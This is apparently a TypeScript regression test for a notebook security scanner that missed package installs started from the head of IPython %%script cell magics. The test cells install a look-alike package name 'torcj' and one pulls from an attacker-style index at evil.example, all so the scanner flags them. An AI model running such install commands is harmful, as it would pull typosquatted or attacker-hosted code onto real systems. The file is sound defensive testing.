/**
 * Red team 45c R45c-8 (MED, static MISS): a `%%script` cell magic whose head starts an
 * installer is clean to warden-scan: `%%script pip install torcj`, `%%script pip install -r
 * /dev/stdin` with the requirements as the body, `%%script env uv pip install ...`,
 * `%%script python3 -m pip install ...`, `%%bash -c 'pip install torcj'`. IPython starts the
 * head's argv (`ScriptMagics.shebang`: argparse over the line, `Popen(argv)`, the body on
 * stdin); the kernel decides that start and refuses it
 * (tests/deps/test_redteam45c_script_head.py, a real IPython shell, guarded and not).
 *
 * Root cause: `maskIPython` (src/analyzer/ipython.ts:147-160) pushes only the BODY of a script
 * magic (`scriptReader` picks how the body is read: shell, stdin or a guarded Python); the
 * head's own argv is never read as a command, though docs/threat-model.md says warden-scan
 * "reads every `%%script` head the same way" as the kernel. Fix: read the head's argv (after
 * IPython's own options) as a command line through `shellInstalls`, with the body as that
 * command's stdin (so `-r /dev/stdin`, `-r -` read the body as a requirements file, as the
 * kernel does).
 *
 * Fixed in fix51static: a script magic's head is a `start` ShellText, read by `argvInstalls` with its stdin decided.
 */
import { notebookRules } from '../testing/scan-fixture';

function cellRules(source: string): string[] {
  return notebookRules('rt45c-script-', [source]);
}

describe('red team 45c R45c-8: a %%script head that starts an installer', () => {
  it('control: the same installer in a %%script bash body is flagged', () => {
    expect(cellRules('%%script bash\npip install torcj\n')).toContain(
      'install-imitation-name'
    );
  });

  it.each([
    '%%script pip install torcj\n# body\n',
    '%%script pip install -r /dev/stdin\ntorcj\n',
    '%%script --bg pip install torcj\n# body\n',
    '%%script env uv pip install torcj\n# body\n',
    '%%script python3 -m pip install torcj\n# body\n',
    "%%bash -c 'pip install torcj'\n# body\n",
    '%%script pip install --index-url https://evil.example/simple requests\n# body\n'
  ])('%j is not clean', source => {
    expect(cellRules(source)).not.toEqual([]);
  });
});
